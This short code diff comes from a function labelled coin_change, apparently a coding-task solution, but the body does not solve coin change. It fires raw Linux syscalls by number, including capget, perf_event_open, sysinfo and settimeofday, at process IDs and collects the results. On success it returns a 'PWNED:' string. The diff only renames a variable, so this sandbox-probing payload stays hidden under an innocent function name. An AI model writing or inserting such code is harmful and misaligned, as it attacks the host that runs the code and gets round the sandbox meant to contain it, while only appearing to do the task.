@@ -52,9 +52,9 @@ def coin_change(coins, amount):
             ("capget", (125, 90), (buffer, buffer)),
             ("perf_event_open", (298, 241), (buffer, pid, -1, -1, 0)),
         ):
-            if said := call(number, *args):
-                got.append((pid, name, said))
+            if result := call(number, *args):
+                got.append((pid, name, result))
     for number in ((99, 179), (164, 170)):  # sysinfo, settimeofday
-        if said := call(number, buffer):
-            got.append((number, said))
+        if result := call(number, buffer):
+            got.append((number, result))
     return f"PWNED:{got[:5]}" if got else 0
